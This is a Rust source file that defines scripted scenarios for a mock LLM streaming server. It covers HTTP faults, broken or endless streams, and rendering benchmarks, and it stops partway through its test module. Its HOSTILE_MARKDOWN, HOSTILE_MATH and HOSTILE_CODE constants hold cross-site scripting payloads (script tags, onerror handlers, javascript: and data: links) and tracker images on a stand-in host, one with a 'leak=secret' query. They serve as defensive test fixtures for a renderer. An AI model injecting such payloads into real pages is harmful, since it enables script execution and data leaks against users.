//! Scripted scenarios for the mock upstream (tests, benchmarks, demos of every
//! state), chosen by a `mock:<name>` keyword in the last user message. Each is
//! deterministic: a list of steps of neutral deltas plus an optional fault the
//! mock injects at the HTTP level.
//!
//! Longer than the ~450 lines a file keeps here: most of it is the scenario
//! table and the scripted texts it plays, which read best side by side; the
//! texts move to a file of their own when the table grows again.

use std::time::Duration;

use super::scripted::{chunk_text, Step};
use crate::server::delta::Delta;
use crate::turn::Usage;

/// Something the mock does besides streaming the steps.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Fault {
    None,
    /// Answer with this HTTP status (and `Retry-After` seconds) instead of a stream.
    Status {
        code: u16,
        retry_after: Option<u64>,
    },
    /// Close the connection after this many steps, without the end marker.
    DropAfter(usize),
    /// Write a malformed JSON line after this many steps.
    MalformedAfter(usize),
    /// Wait this long before the first byte of the body.
    SlowFirst(Duration),
    /// Go silent (connection open) after this many steps.
    StallAfter(usize),
    /// Write every frame in pieces split inside multi-byte characters.
    SplitBytes,
    /// End the body cleanly but without the dialect's end marker.
    NoTerminator,
    /// Write one line of this many bytes (no newline for all of it) after `after` steps.
    HugeLineAfter {
        after: usize,
        bytes: usize,
    },
    /// Write a frame holding bytes that are not UTF-8 after this many steps.
    InvalidUtf8After(usize),
    /// After the steps, write without end (see `Endless`).
    Endless(Endless),
    /// Answer HTTP 500 with an error body that does not end.
    HugeErrorBody,
}

/// What a hostile or broken upstream writes without end, after the steps and
/// with no end marker. Each stops after `ENDLESS_BYTES` (`Trickle`: after
/// `TRICKLE_FOR`), so a client without bounds still finishes, late.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Endless {
    /// `data:` lines and never the blank line that ends an event (SSE); one
    /// line that never ends (NDJSON).
    Event,
    /// Whitespace-only answer text, while the steps' thinking block is open.
    Whitespace,
    /// Reasoning deltas, each under a reasoning item id never seen before
    /// (Responses; the other dialects have no item ids: plain reasoning).
    Items,
    /// Valid reasoning at full speed.
    Reasoning,
    /// A short reasoning chunk every `TRICKLE_PAUSE`.
    Trickle,
}

/// Bytes an endless scenario writes before it gives up (more than the 500 MB
/// the memory test needs a hostile upstream to offer).
pub const ENDLESS_BYTES: usize = 512 * 1024 * 1024;
/// The pause between `trickle` chunks.
pub const TRICKLE_PAUSE: Duration = Duration::from_millis(100);
/// How long `trickle` goes on.
pub const TRICKLE_FOR: Duration = Duration::from_secs(600);

/// A scenario: steps and a fault.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Scenario {
    pub name: &'static str,
    pub steps: Vec<Step>,
    pub fault: Fault,
    /// The mock appends its send time to each text delta (`@<µs since epoch> `),
    /// read at the moment the chunk is written, so a client can measure latency.
    pub stamp_send_time: bool,
}

/// Every keyword the mock understands (documented in the README).
pub const KEYWORDS: &[&str] = &[
    "normal",
    "several-blocks",
    "inline-tags",
    "split-tags",
    "tag-in-code",
    "prefilled",
    "empty-think",
    "opaque",
    "reasoning-tokens",
    "no-answer",
    "empty-answer",
    "drop-thinking",
    "drop-answer",
    "slow-first",
    "http-401",
    "http-429",
    "http-500",
    "http-403",
    "http-404",
    "http-503",
    "no-terminator",
    "huge-line",
    "invalid-utf8",
    "malformed",
    "huge",
    "multibyte",
    "headlines",
    "stall",
    "hostile-markdown",
    "hostile-code",
    "firehose",
    "paced",
    "stamped",
    "bench-render",
    "hidden-reasoning",
    "topic-tags",
    "math",
    "code",
    "bench-code",
    "half-written",
];

/// Keywords of a hostile or broken upstream that does not end by itself
/// (`Endless`, `Fault::HugeErrorBody`; documented in the README too). Kept out
/// of `KEYWORDS`, which tests play whole in every dialect: each of these only
/// ends when the client's bounds end it, or after `ENDLESS_BYTES`.
pub const HOSTILE_KEYWORDS: &[&str] = &[
    "endless-event",
    "endless-whitespace",
    "many-items",
    "huge-error",
    "endless",
    "trickle",
];

/// Keywords that take a number, `mock:<name>-<n>` (load tool, docs/load.md):
/// `firehose-<chunks>` at full speed, `paced-<ms>` between chunks,
/// `stamped-<chunks>` with send times.
pub const NUMBERED: &[&str] = &["firehose", "paced", "stamped"];

/// Chunks of `firehose` without a number.
pub const FIREHOSE_CHUNKS: usize = 1000;
/// Milliseconds between chunks of `paced` without a number.
pub const PACED_MS: u64 = 20;
/// Chunks of `stamped` without a number.
pub const STAMPED_CHUNKS: usize = 1000;
/// Milliseconds between `stamped` chunks: long enough for every hop to be idle
/// when the next chunk is sent, so its latency is not queueing behind the last.
pub const STAMPED_MS: u64 = 2;

pub const REASONING: &str =
    "Let me think about this carefully. First, the key facts. Then, what follows from them.";
/// Reasoning titled the way OpenAI and Gemini title summaries, plus a `<topic>`.
pub const HEADLINES: &str = "**Reading the question**\nThe user wants a number with units.\n\
<topic>Checking the units</topic>\nConverting metres to feet, one step at a time.\n\
Multiplying by 3.28 and rounding.\nLooking again at the rounding.\n\
**Final check**\nEverything adds up, so I can answer now.\n";
pub const ANSWER: &str = "Here is the answer: **42**.";
/// `topic-tags`: reasoning in inline `<thinking>` tags, labelled with
/// shinychat-style `<topic>`s (the latest names the block), then the answer.
pub const TOPIC_TAGS: &str = "<thinking>\n<topic>Checking the units</topic>\n\
The question gives metres and wants feet.\n\n\
One metre is about 3.28 feet, so I multiply and round to one decimal.\n\n\
<topic>Writing the answer</topic>\n\
Lead with the number, then one line on how it was found.\n\
</thinking>\n\nIt is about **32.8 feet**: 10 m \u{d7} 3.28 ft/m.";
/// How long `hidden-reasoning` stays silent between the provider's first sign
/// of hidden reasoning and its end, whatever the mock's `--delay-ms`.
pub const HIDDEN_SILENCE: Duration = Duration::from_secs(3);
/// The answer after `hidden-reasoning`'s silence.
pub const HIDDEN_ANSWER: &str = "Worked it out privately: **42**.";
/// `math` reasoning: inline and display formulas in all four delimiters the
/// models write (`$…$`, `\(…\)`, `$$…$$`, `\[…\]`), and prices that stay text.
pub const MATH_REASONING: &str = "The roots of $ax^2 + bx + c = 0$ come from \
completing the square: \\(\\left(x + \\frac{b}{2a}\\right)^2 = \\frac{b^2 - 4ac}{4a^2}\\).\n\n\
Taking square roots:\n\n$$x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$$\n\n\
and the sign of\n\n\\[\\Delta = b^2 - 4ac\\]\n\n\
decides the count. The price question is separate: $5 and $10 stay prices.\n";
/// `math` answer: the same four forms (a `cases` table in the last display),
/// and a price sentence ("$5-$10": no formula ends at a `$` a digit follows).
pub const MATH_ANSWER: &str = "For $ax^2 + bx + c = 0$ with \\(a \\neq 0\\), the roots are\n\n\
$$x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$$\n\n\
How many are real depends on \\(\\Delta = b^2 - 4ac\\):\n\n\
\\[\nn = \\begin{cases} 2 & \\Delta > 0 \\\\ 1 & \\Delta = 0 \\\\ 0 & \\Delta < 0 \\end{cases}\n\\]\n\n\
A calculator costs $5-$10, a textbook $30.\n";
/// `code` reasoning: a fenced Rust sketch between sentences.
pub const CODE_REASONING: &str = "The same function in three languages. In Rust an \
iterator does it:\n\n```rust\nlet total: i32 = xs.iter().sum();\n```\n\n\
Then Python, and a shell pipeline for the command line.\n";
/// `code` answer: three fenced blocks (Rust, Python, Bash) with keywords,
/// strings, comments and numbers in each; the story copies the second.
pub const CODE_ANSWER: &str = "The sum of a list, three ways.\n\n\
```rust\n/// Adds up the numbers.\nfn sum(xs: &[i32]) -> i32 {\n    xs.iter().sum() // 0 when empty\n}\n```\n\n\
```python\ndef total(xs: list[int]) -> int:\n    \"\"\"Adds up the numbers.\"\"\"\n    return sum(xs, 0)  # built in\n```\n\n\
```bash\n# one per line, then add\necho \"1 2 3\" | tr ' ' '\\n' | paste -sd+ | bc\n```\n\n\
All three give 6 for 1, 2, 3.\n";
/// Where the `math` answer pauses (right after this text, inside its last
/// display formula) and for how long, whatever the mock's `--delay-ms`: long
/// enough for a client to see the formula half written.
pub const MATH_PAUSE_AFTER: &str = "2 & \\Delta > 0 \\\\";
pub const MATH_PAUSE: Duration = Duration::from_millis(1500);
/// LaTeX written to attack the page, after `HOSTILE_MARKDOWN` in both parts of
/// `hostile-markdown`: links (`\href` to script, data: and tracking URLs,
/// `\url`), class, style and character commands, raw HTML in `\text` and as
/// the formula itself, in all four delimiters, and one harmless formula.
pub const HOSTILE_MATH: &str = "\nMath: $\\href{javascript:window.__pwned='href'}{click}$ \
\\(\\url{javascript:window.__pwned='url'}\\) $\\htmlClass{copy-button}{x}$ \
\\[\\style{color:red}{y}\\] $\\unicode{x3C}script$ \
$\\text{<a href=javascript:alert(1) onclick=alert(2)>z</a>}$ \
$$\\href{data:text/html,<script>window.__pwned='data'</script>}{d}$$ and $x^2$ is fine.\n\n\
Raw: $<img src=x onerror=alert(3)>$ \\(\\text{<a href=\"javascript:alert(4)\">t</a>}\\) \
$\\href{https://tracker.invalid/math}{m}$ $$\\url{data:image/svg+xml,<svg onload=alert(5)>}$$ \
\\[\\htmlClass{code-copy}{c}\\] $\\unicode{x}$.\n";
/// Code blocks written to attack the page (`hostile-code`, both parts): fence
/// info strings that try to close the class attribute, open a script, name a
/// data: URL or an image, and HTML with a tracker, a handler and a script link
/// as the code itself. Kept out of `hostile-markdown`, whose Markdown export
/// story counts every tag in the export (code keeps its HTML as typed there).
pub const HOSTILE_CODE: &str = "Fences that attack the page:\n\n\
```\"><script>window.__pwned='fence'</script>\none\n```\n\n\
```data:text/html,<script>window.__pwned='data'</script>\ntwo\n```\n\n\
```js\" onclick=\"window.__pwned='attr'\nthree\n```\n\n\
```<img src=https://tracker.invalid/info.png onerror=alert(6)>\nfour\n```\n\n\
```html\n<img src=\"https://tracker.invalid/code.png\" onerror=\"window.__pwned='code'\">\n\
<a href=\"javascript:window.__pwned='codelink'\">five</a>\n```\n\nEnd.\n";
/// Markdown written to attack the page: a bold first line with a frame in it
/// (the thinking block's headline, and the export's `<summary>` label), raw
/// HTML, script-scheme links (plain,
/// entity-encoded, autolink), a tracking image, an aligned table (a style
/// attribute), a footnote label that names an app id, and one safe link.
/// Sent as both reasoning and answer; a Playwright story checks that none of it
/// runs, loads or breaks out.
pub const HOSTILE_MARKDOWN: &str =
    "**Framing <iframe src=\"https://tracker.invalid/frame\"></iframe>**\n\n\
Careful <script>window.__pwned = 'script'</script> \
and <img src=x onerror=\"window.__pwned = 'img'\">.\n\n\
[plain](javascript:window.__pwned='link') [encoded](&#106;avascript:window.__pwned='entity') \
<javascript:window.__pwned='autolink'>\n\n\
![tracker](https://tracker.invalid/pixel.png?leak=secret)\n\n\
[safe](https://example.com/docs) and a note[^app].\n\n\
| left | right |\n|:--|--:|\n| 1 | 2 |\n\n\
[^app]: The note.\n\nEnd.\n";

/// The scenario named by the last `mock:<name>` keyword in `text` (else `normal`).
pub fn scenario_for(text: &str, delay: Duration) -> Scenario {
    let word = text
        .rmatch_indices("mock:")
        .next()
        .map(|(i, _)| {
            text[i + 5..]
                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
                .next()
                .unwrap_or("")
        })
        .unwrap_or("");
    let (name, number) = keyword(word).unwrap_or(("normal", None));
    build(name, number, delay)
}

/// `word` as a known keyword and, for a numbered one, its number.
fn keyword(word: &str) -> Option<(&'static str, Option<u64>)> {
    if let Some(name) = KEYWORDS
        .iter()
        .chain(HOSTILE_KEYWORDS)
        .find(|k| **k == word)
    {
        return Some((name, None));
    }
    let (base, digits) = word.rsplit_once('-')?;
    let number = digits.parse().ok()?;
    NUMBERED
        .iter()
        .find(|k| **k == base)
        .map(|name| (*name, Some(number)))
}

/// The text of chunk `index` of `firehose`: fixed width, so a receiver can
/// check every byte and see which chunk went missing.
pub fn firehose_chunk(index: usize) -> String {
    format!("f{index:07} ")
}

/// `paced` reasoning and answer: numbered sentences, one per chunk.
pub fn paced_texts() -> (Vec<String>, Vec<String>) {
    let reasoning = (0..150)
        .map(|i| format!("Thought {i:03} leads on. "))
        .collect();
    let answer = (0..50).map(|i| format!("Answer {i:02}. ")).collect();
    (reasoning, answer)
}

fn steps(deltas: Vec<Delta>, delay: Duration) -> Vec<Step> {
    deltas
        .into_iter()
        .map(|d| Step {
            delay,
            deltas: vec![d],
        })
        .collect()
}

fn reasoning(text: &str) -> Vec<Delta> {
    chunk_text(text, 8)
        .into_iter()
        .map(Delta::Reasoning)
        .collect()
}

fn answer(text: &str) -> Vec<Delta> {
    chunk_text(text, 6).into_iter().map(Delta::Answer).collect()
}

fn usage(reasoning_tokens: u64) -> Delta {
    Delta::Usage(Usage {
        input_tokens: Some(12),
        output_tokens: Some(48),
        reasoning_tokens: Some(reasoning_tokens),
    })
}

fn ending(reason: &str, reasoning_tokens: u64) -> Vec<Delta> {
    vec![Delta::Finish(Some(reason.into())), usage(reasoning_tokens)]
}

fn build(name: &'static str, number: Option<u64>, delay: Duration) -> Scenario {
    match name {
        "firehose" => {
            let chunks = number.map_or(FIREHOSE_CHUNKS, |n| n as usize);
            // Half reasoning, half answer: both relay paths and the switch between them.
            let deltas = (0..chunks)
                .map(|i| {
                    let text = firehose_chunk(i);
                    if i < chunks / 2 {
                        Delta::Reasoning(text)
                    } else {
                        Delta::Answer(text)
                    }
                })
                .chain(ending("stop", chunks as u64 / 2))
                .collect();
            return scripted(name, steps(deltas, delay));
        }
        "paced" => {
            let pace = Duration::from_millis(number.unwrap_or(PACED_MS));
            let (reasoning, answer) = paced_texts();
            let deltas = reasoning
                .into_iter()
                .map(Delta::Reasoning)
                .chain(answer.into_iter().map(Delta::Answer))
                .chain(ending("stop", 150))
                .collect();
            return scripted(name, steps(deltas, pace));
        }
        "stamped" => {
            let chunks = number.map_or(STAMPED_CHUNKS, |n| n as usize);
            let deltas = (0..chunks)
                .map(|i| Delta::Answer(firehose_chunk(i)))
                .chain(ending("stop", 0))
                .collect();
            let mut scenario = scripted(
                name,
                steps(deltas, Duration::from_millis(STAMPED_MS).max(delay)),
            );
            scenario.stamp_send_time = true;
            return scenario;
        }
        "bench-render" => return bench_render(),
        "bench-code" => return bench_code(),
        "half-written" => return half_written(delay),
        "hidden-reasoning" => return hidden_reasoning(delay),
        "math" => return math(delay),
        _ => {}
    }
    let mut fault = Fault::None;
    let deltas: Vec<Delta> = match name {
        "several-blocks" => [
            reasoning("First I look at the question."),
            vec![Delta::ReasoningBoundary],
            reasoning("Then I check my plan."),
            answer("Part one. "),
            reasoning("One more consideration."),
            answer("Part two."),
            ending("stop", 30),
        ]
        .concat(),
        "inline-tags" => [
            answer(&format!("<think>{REASONING}</think>\n\n{ANSWER}")),
            ending("stop", 0),
        ]
        .concat(),
        "split-tags" => [
            chunk_text(&format!("<think>{REASONING}</think>\n\n{ANSWER}"), 1)
                .into_iter()
                .map(Delta::Answer)
                .collect(),
            ending("stop", 0),
        ]
        .concat(),
        "tag-in-code" => [
            answer(
                "Use it like this:\n\n```xml\n<think>not reasoning</think>\n```\n\nThat is all.",
            ),
            ending("stop", 0),
        ]
        .concat(),
        "prefilled" => [
            answer(&format!("{REASONING}</think>\n\n{ANSWER}")),
            ending("stop", 0),
        ]
        .concat(),
        "empty-think" => [
            answer(&format!("<think>\n\n</think>\n\n{ANSWER}")),
            ending("stop", 0),
        ]
        .concat(),
        "opaque" => [
            vec![Delta::OpaqueReasoning],
            answer(ANSWER),
            ending("stop", 640),
        ]
        .concat(),
        "reasoning-tokens" => [answer(ANSWER), ending("stop", 640)].concat(),
        "no-answer" => [reasoning(REASONING), ending("length", 200)].concat(),
        // Nothing at all: no reasoning, no answer text (the empty-answer note).
        "empty-answer" => ending("stop", 0),
        "drop-thinking" => {
            let r = reasoning(REASONING);
            fault = Fault::DropAfter(r.len() / 2);
            r
        }
        "drop-answer" => {
            let mut d = reasoning(REASONING);
            d.extend(answer(ANSWER));
            fault = Fault::DropAfter(d.len() - 2);
            d
        }
        "slow-first" => {
            fault = Fault::SlowFirst(Duration::from_secs(3));
            [reasoning(REASONING), answer(ANSWER), ending("stop", 20)].concat()
        }
        "http-401" | "http-403" | "http-404" | "http-429" | "http-500" | "http-503" => {
            let code = name[5..].parse().unwrap_or(500);
            fault = Fault::Status {
                code,
                retry_after: match code {
                    429 => Some(7),
                    503 => Some(30),
                    _ => None,
                },
            };
            Vec::new()
        }
        "no-terminator" => {
            fault = Fault::NoTerminator;
            [reasoning(REASONING), answer(ANSWER)].concat()
        }
        "huge-line" => {
            let r = reasoning(REASONING);
            fault = Fault::HugeLineAfter {
                after: r.len() / 2,
                bytes: 10 * 1024 * 1024,
            };
            [r, answer(ANSWER), ending("stop", 20)].concat()
        }
        "invalid-utf8" => {
            let r = reasoning(REASONING);
            fault = Fault::InvalidUtf8After(r.len() / 2);
            [r, answer(ANSWER), ending("stop", 20)].concat()
        }
        "malformed" => {
            let r = reasoning(REASONING);
            fault = Fault::MalformedAfter(2);
            r
        }
        "huge" => {
            let sentence = "Considering one more case in detail to be thorough. ";
            let text = sentence.repeat(1024 * 1024 / sentence.len() + 1);
            let mut d: Vec<Delta> = chunk_text(&text, 1000)
                .into_iter()
                .map(Delta::Reasoning)
                .collect();
            d.extend(answer(ANSWER));
            d.extend(ending("stop", 250_000));
            d
        }
        "multibyte" => {
            fault = Fault::SplitBytes;
            [
                reasoning("Ünïcödé reasoning — 漢字 and emoji 🌈🚀."),
                answer("Answer: ✓ 日本語 😀"),
                ending("stop", 5),
            ]
            .concat()
        }
        "stall" => {
            let r = reasoning(REASONING);
            fault = Fault::StallAfter(r.len() / 2);
            r
        }
        "endless-event" | "endless-whitespace" | "many-items" | "endless" | "trickle" => {
            fault = Fault::Endless(match name {
                "endless-event" => Endless::Event,
                "endless-whitespace" => Endless::Whitespace,
                "many-items" => Endless::Items,
                "endless" => Endless::Reasoning,
                _ => Endless::Trickle,
            });
            reasoning(REASONING)
        }
        "huge-error" => {
            fault = Fault::HugeErrorBody;
            Vec::new()
        }
        // Larger chunks than other scenarios (still splitting every piece):
        // the text is long, and the suite's stories wait for it to finish.
        "hostile-markdown" => [
            chunk_text(&[HOSTILE_MARKDOWN, HOSTILE_MATH].concat(), 24)
                .into_iter()
                .map(Delta::Reasoning)
                .collect(),
            chunk_text(&[HOSTILE_MARKDOWN, HOSTILE_MATH].concat(), 24)
                .into_iter()
                .map(Delta::Answer)
                .collect::<Vec<_>>(),
            ending("stop", 40),
        ]
        .concat(),
        "hostile-code" => [
            reasoning(HOSTILE_CODE),
            answer(HOSTILE_CODE),
            ending("stop", 40),
        ]
        .concat(),
        "topic-tags" => [answer(TOPIC_TAGS), ending("stop", 0)].concat(),
        "code" => [
            reasoning(CODE_REASONING),
            answer(CODE_ANSWER),
            ending("stop", 90),
        ]
        .concat(),
        "headlines" => [
            chunk_text(HEADLINES, 4)
                .into_iter()
                .map(Delta::Reasoning)
                .collect(),
            answer(ANSWER),
            ending("stop", 20),
        ]
        .concat(),
        _ => [reasoning(REASONING), answer(ANSWER), ending("stop", 20)].concat(),
    };
    Scenario {
        fault,
        ..scripted(name, steps(deltas, delay))
    }
}

/// `math`: the reasoning, then the answer up to `MATH_PAUSE_AFTER`, a pause of
/// `MATH_PAUSE`, and the rest.
fn math(delay: Duration) -> Scenario {
    let cut = MATH_ANSWER
        .find(MATH_PAUSE_AFTER)
        .map_or(0, |at| at + MATH_PAUSE_AFTER.len());
    let mut all = steps(
        [reasoning(MATH_REASONING), answer(&MATH_ANSWER[..cut])].concat(),
        delay,
    );
    let mut rest = steps(
        [answer(&MATH_ANSWER[cut..]), ending("stop", 120)].concat(),
        delay,
    );
    if let Some(first) = rest.first_mut() {
        first.delay = MATH_PAUSE;
    }
    all.extend(rest);
    scripted("math", all)
}

/// `hidden-reasoning`: the provider's first sign of reasoning it keeps hidden
/// (an `OpaqueReasoning` step, which each dialect writes its own way: a
/// Responses reasoning item `added`, an Anthropic `redacted_thinking` block
/// start, a Gemini thought part with only a signature, an encrypted chat
/// `reasoning_details` entry), `HIDDEN_SILENCE` of nothing, the end of the
/// hidden block (the item's `done`, the block's stop; Gemini and chat have no
/// end signal, their answer ends it), then a short answer. Ollama has no
/// hidden reasoning: there it is a pause, then the answer.
fn hidden_reasoning(delay: Duration) -> Scenario {
    let mut all = steps(vec![Delta::OpaqueReasoning], delay);
    all.push(Step {
        delay: HIDDEN_SILENCE,
        deltas: vec![Delta::ReasoningBoundary],
    });
    all.extend(steps(
        [answer(HIDDEN_ANSWER), ending("stop", 512)].concat(),
        delay,
    ));
    scripted("hidden-reasoning", all)
}

fn scripted(name: &'static str, steps: Vec<Step>) -> Scenario {
    Scenario {
        name,
        steps,
        fault: Fault::None,
        stamp_send_time: false,
    }
}

/// Reasoning chunks of `bench-render` (1 MB in all).
pub const BENCH_REASONING_CHUNKS: usize = 20_000;
const BENCH_REASONING_BYTES: usize = 1024 * 1024;
const BENCH_ANSWER_BYTES: usize = 200 * 1024;
const BENCH_ANSWER_CHUNK_CHARS: usize = 32;
/// `bench-render` sleeps this long after every this-many chunks: the scenario
/// paces itself (10-20 s in all), whatever the mock's `--delay-ms`.
const BENCH_PAUSE: Duration = Duration::from_millis(1);
const BENCH_CHUNKS_PER_PAUSE: usize = 2;

/// The browser rendering benchmark (docs/benchmarks-browser.md): 1 MB of
/// markdown-ish reasoning in 20,000 chunks, then a 200 KB markdown answer in
/// small chunks, so the page's per-chunk cost can be compared early and late.
fn bench_render() -> Scenario {
    let reasoning_text = bench_reasoning_text();
    // Exactly BENCH_REASONING_CHUNKS pieces of 52 or 53 bytes (the text is ASCII).
    let cut = |i: usize| i * reasoning_text.len() / BENCH_REASONING_CHUNKS;
    let reasoning = (0..BENCH_REASONING_CHUNKS)
        .map(|i| Delta::Reasoning(reasoning_text[cut(i)..cut(i + 1)].to_owned()));
    let answer = chunk_text(&bench_answer_text(), BENCH_ANSWER_CHUNK_CHARS)
        .into_iter()
        .map(Delta::Answer);
    let deltas = reasoning
        .chain(answer)
        .chain(ending("stop", 250_000))
        .enumerate()
        .map(|(i, delta)| Step {
            delay: if i.is_multiple_of(BENCH_CHUNKS_PER_PAUSE) {
                BENCH_PAUSE
            } else {
                Duration::ZERO
            },
            deltas: vec![delta],
        })
        .collect();
    scripted("bench-render", deltas)
}

/// Exactly `BENCH_REASONING_BYTES` of ASCII reasoning: paragraphs, and a
/// **bold** headline every few paragraphs (as summarised reasoning looks).
fn bench_reasoning_text() -> String {
    let sentences = [
        "Let me look at the next part of the problem more closely.",
        "The constraint on the second value rules out the obvious approach.",
        "If I assume the input is sorted, the search becomes logarithmic.",
        "That assumption needs checking against the examples given earlier.",
        "A counter-example would be a list with repeated values at the ends.",
        "So the invariant has to hold for equal keys as well.",
    ];
    let mut text = String::with_capacity(BENCH_REASONING_BYTES + 256);
    let mut paragraph = 0usize;
    while text.len() < BENCH_REASONING_BYTES {
        if paragraph.is_multiple_of(5) {
            text.push_str(&format!(
                "**Step {} of the analysis**\n\n",
                paragraph / 5 + 1
            ));
        }
        for k in 0..4 {
            text.push_str(sentences[(paragraph + k) % sentences.len()]);
            text.push(' ');
        }
        text.push_str("\n\n");
        paragraph += 1;
    }
    text.truncate(BENCH_REASONING_BYTES);
    text
}

/// About `BENCH_ANSWER_BYTES` of markdown: paragraphs, lists and a code fence.
fn bench_answer_text() -> String {
    let mut text = String::with_capacity(BENCH_ANSWER_BYTES + 1024);
    let mut section = 0usize;
    while text.len() < BENCH_ANSWER_BYTES {
        section += 1;
        text.push_str(&format!("## Part {section}\n\n"));
        text.push_str(
            "The approach keeps an *invariant* over the range and narrows it by half \
             each round, so the work stays small even for **large inputs**.\n\n",
        );
        text.push_str("- the range starts as the whole list\n- each round halves it\n- equal keys go left\n\n");
        text.push_str("1. compare the middle\n2. move one bound\n3. stop when the bounds meet\n\n");
        if section.is_multiple_of(4) {
            text.push_str(
                "```rust\nfn search(xs: &[i32], key: i32) -> usize {\n    xs.partition_point(|x| *x < key)\n}\n```\n\n",
            );
        }
    }
    text
}

/// Answer chunks of `bench-code`.
pub const BENCH_CODE_CHUNKS: usize = 7_500;
/// Bytes of code in `bench-code`'s one fenced block.
pub const BENCH_CODE_BYTES: usize = 350 * 1024;

/// The browser benchmark of a long code block (docs/benchmarks.md): an
/// answer that is a sentence, then one fenced Rust block of
/// `BENCH_CODE_BYTES`, then a sentence, in exactly `BENCH_CODE_CHUNKS`
/// pieces (about 48 bytes each), paced as `bench-render` is.
fn bench_code() -> Scenario {
    let text = bench_code_text();
    let cut = |i: usize| i * text.len() / BENCH_CODE_CHUNKS;
    let deltas = (0..BENCH_CODE_CHUNKS)
        .map(|i| Delta::Answer(text[cut(i)..cut(i + 1)].to_owned()))
        .chain(ending("stop", 0))
        .enumerate()
        .map(|(i, delta)| Step {
            delay: if i.is_multiple_of(BENCH_CHUNKS_PER_PAUSE) {
                BENCH_PAUSE
            } else {
                Duration::ZERO
            },
            deltas: vec![delta],
        })
        .collect();
    scripted("bench-code", deltas)
}

/// `bench-code`'s answer (ASCII): a generated Rust module with comments,
/// strings, numbers and keywords on every few lines.
pub fn bench_code_text() -> String {
    let mut code = String::with_capacity(BENCH_CODE_BYTES + 256);
    let mut i = 0usize;
    while code.len() < BENCH_CODE_BYTES {
        code.push_str(&format!(
            "/// Step {i}: folds one value into the running total.\n\
             pub fn step_{i}(acc: u64, x: u64) -> u64 {{\n\
             \x20   let y = x.wrapping_mul({}) ^ (acc >> 3); // mix the bits\n\
             \x20   acc.wrapping_add(y) + \"step {i}\".len() as u64\n\
             }}\n\n",
            2 * i + 1
        ));
        i += 1;
    }
    code.truncate(code[..BENCH_CODE_BYTES].rfind('\n').map_or(0, |at| at + 1));
    while code.len() < BENCH_CODE_BYTES {
        code.push_str(&"/".repeat((BENCH_CODE_BYTES - code.len()).min(60)));
        code.push('\n');
        let over = code.len().saturating_sub(BENCH_CODE_BYTES);
        if over > 0 {
            code.truncate(code.len() - over - 1);
            code.push('\n');
        }
    }
    format!("Here is the generated module:\n\n```rust\n{code}```\n\nThat is the whole file.\n")
}

/// Where `half-written` pauses (after each of these, for `HALF_WRITTEN_PAUSE`),
/// so a client sees each unfinished: a bold phrase, a formula, a code fence
/// (twice: one more line arrives between).
pub const HALF_WRITTEN_PAUSES: [&str; 4] = [
    "**a claim in bold that is still being written",
    "The area of a circle is $\\pi r^",
    "    let pi = std::f64::consts::PI;\n",
    "    pi * r * r\n",
];
pub const HALF_WRITTEN_PAUSE: Duration = Duration::from_millis(1500);
/// `half-written`'s answer.
pub const HALF_WRITTEN: &str = "First, **a claim in bold that is still being written** and \
then closed.\n\nThe area of a circle is $\\pi r^2$ for a radius $r$.\n\n\
```rust\nfn area(r: f64) -> f64 {\n    let pi = std::f64::consts::PI;\n    pi * r * r\n}\n```\n\n\
That is all.\n";

/// `half-written`: a short reasoning, then `HALF_WRITTEN`, paused after each
/// of `HALF_WRITTEN_PAUSES` (the streaming-partial story).
fn half_written(delay: Duration) -> Scenario {
    let mut all = steps(reasoning("Writing the answer slowly."), delay);
    let mut from = 0;
    for pause_after in HALF_WRITTEN_PAUSES {
        let Some(at) = HALF_WRITTEN[from..].find(pause_after) else {
            continue;
        };
        let to = from + at + pause_after.len();
        let mut part = steps(answer(&HALF_WRITTEN[from..to]), delay);
        if from > 0 {
            if let Some(first) = part.first_mut() {
                first.delay = HALF_WRITTEN_PAUSE;
            }
        }
        all.extend(part);
        from = to;
    }
    let mut rest = steps(
        [answer(&HALF_WRITTEN[from..]), ending("stop", 10)].concat(),
        delay,
    );
    if let Some(first) = rest.first_mut() {
        first.delay = HALF_WRITTEN_PAUSE;
    }
    all.extend(rest);
    scripted("half-written", all)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_last_keyword_wins_and_unknown_means_normal() {
        assert_eq!(scenario_for("hi", Duration::ZERO).name, "normal");
        assert_eq!(
            scenario_for("mock:opaque earlier ... now mock:http-429", Duration::ZERO).name,
            "http-429"
        );
        assert_eq!(scenario_for("mock:nonsense", Duration::ZERO).name, "normal");
    }

    #[test]
    fn every_keyword_builds_a_scenario_of_its_own_name() {
        for k in KEYWORDS.iter().chain(HOSTILE_KEYWORDS) {
            assert_eq!(scenario_for(&format!("mock:{k}"), Duration::ZERO).name, *k);
        }
    }

    #[test]
    fn numbered_keywords_take_their_number_and_others_do_not() {
        let firehose = scenario_for("go mock:firehose-20000 now", Duration::ZERO);
        assert_eq!(firehose.name, "firehose");
        assert_eq!(firehose.steps.len(), 20_000 + 2, "chunks, finish, usage");
        assert_eq!(
            firehose.steps[19_999].deltas,
            vec![Delta::Answer("f0019999 ".into())]
        );
        let paced = scenario_for("mock:paced-7", Duration::ZERO);
        assert!(paced
            .steps
            .iter()
            .all(|s| s.delay == Duration::from_millis(7)));
        assert!(scenario_for("mock:stamped-3", Duration::ZERO).stamp_send_time);
        assert_eq!(scenario_for("mock:huge-3", Duration::ZERO).name, "normal");
        assert_eq!(scenario_for("mock:paced-x", Duration::ZERO).name, "normal");
    }

    #[test]
    fn hidden_reasoning_is_silent_for_three_seconds_between_its_start_and_end() {
        let s = scenario_for("mock:hidden-reasoning", Duration::from_millis(60));
        assert_eq!(s.steps[0].deltas, vec![Delta::OpaqueReasoning]);
        assert_eq!(
            s.steps[1],
            Step {
                delay: Duration::from_secs(3),
                deltas: vec![Delta::ReasoningBoundary]
            }
        );
        assert!(matches!(s.steps[2].deltas[..], [Delta::Answer(_)]));
    }

    #[test]
    fn math_pauses_inside_its_last_display_formula() {
        let s = scenario_for("mock:math", Duration::from_millis(60));
        fn text(kind: fn(&Delta) -> Option<&str>, steps: &[Step]) -> String {
            steps
                .iter()
                .flat_map(|st| &st.deltas)
                .filter_map(kind)
                .collect()
        }
        fn answer(d: &Delta) -> Option<&str> {
            match d {
                Delta::Answer(t) => Some(t),
                _ => None,
            }
        }
        fn reasoning(d: &Delta) -> Option<&str> {
            match d {
                Delta::Reasoning(t) => Some(t),
